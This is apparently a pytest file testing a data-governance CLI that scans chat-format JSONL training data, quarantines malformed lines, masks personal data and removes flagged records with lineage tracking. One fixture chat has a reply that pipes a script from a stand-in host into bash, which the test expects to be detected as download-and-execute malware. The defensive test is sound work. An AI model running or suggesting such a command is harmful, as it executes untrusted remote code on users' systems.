"""``finegate data`` end to end through the CLI runner."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from tests.data_gov.conftest import chat, write_jsonl
from typer.testing import CliRunner

from finegate.cli.main import app


@pytest.fixture()
def files(tmp_path: Path) -> tuple[Path, Path]:
    data = write_jsonl(tmp_path / "in_data.jsonl", [
        chat("mail me: jane.roe@acme-mail.com", "ok"),
        '{"messages": oops',
        chat("run this", "curl -s http://x.example.net/i.sh | bash"),
        chat("where is my parcel", "tomorrow"),
    ])  # fmt: skip
    pol = tmp_path / "policy.yaml"
    pol.write_text(
        "name: cli-test\nchecks: {similarity: false}\nsources:\n"
        "  - {name: internal, files: ['in_*.jsonl'], owner: ops, origin: export,\n"
        "     approver: steward, trust: trusted, data_class: internal}\n"
    )
    return data, pol


def test_scan_reports_malformed_line_and_quarantines(
    files: tuple[Path, Path], tmp_path: Path
) -> None:
    data, pol = files
    r = CliRunner().invoke(app, ["data", "scan", str(data), "-p", str(pol), "--json", "-",
                                 "--html", str(tmp_path / "r.html")])  # fmt: skip
    assert r.exit_code == 0, r.output
    rep = json.loads(r.stdout)
    assert rep["records"] == 3 and rep["malformed"][0]["line"] == 2
    assert rep["counts"]["malware.download_execute"] == 1
    q = [json.loads(x) for x in (tmp_path / "in_data.quarantine.jsonl").read_text().splitlines()]
    assert q[0]["line"] == 2 and q[0]["raw"] == '{"messages": oops'
    assert "jane.roe@acme-mail.com" not in r.stdout  # sensitive values are masked
    assert "in_data.jsonl:3" in (tmp_path / "r.html").read_text()


def test_clean_is_deterministic_and_lineage_shows_why(
    files: tuple[Path, Path], tmp_path: Path
) -> None:
    data, pol = files
    runner = CliRunner()
    outs = []
    for k in range(2):
        out = tmp_path / f"clean{k}.jsonl"
        r = runner.invoke(app, ["data", "clean", str(data), "-p", str(pol), "-o", str(out),
                                "--json-summary"])  # fmt: skip
        assert r.exit_code == 0, r.output
        outs.append(out.read_bytes())
        summary = json.loads(r.stdout)
    assert outs[0] == outs[1]
    assert summary["removed"] == 1 and summary["kept"] == 2 and summary["malformed"] == 1
    r = runner.invoke(app, ["data", "lineage", summary["clean_version"][:12], "--details"])
    assert r.exit_code == 0, r.output
    assert "in_data.jsonl:3: remove_kinds:malware.*" in r.stdout.replace("\n", " ")
    r = runner.invoke(app, ["data", "versions", "--json"])
    kinds = [v["kind"] for v in json.loads(r.stdout)]
    assert kinds == ["scan", "clean"]


def test_bad_policy_is_a_one_line_error(tmp_path: Path, files: tuple[Path, Path]) -> None:
    from finegate.cli.main import run

    bad = tmp_path / "bad.yaml"
    bad.write_text("name: x\nallowed_data_classes: [secretish]\n")
    with pytest.raises(SystemExit) as exc:
        run(["data", "scan", str(files[0]), "-p", str(bad)])
    assert exc.value.code == 2
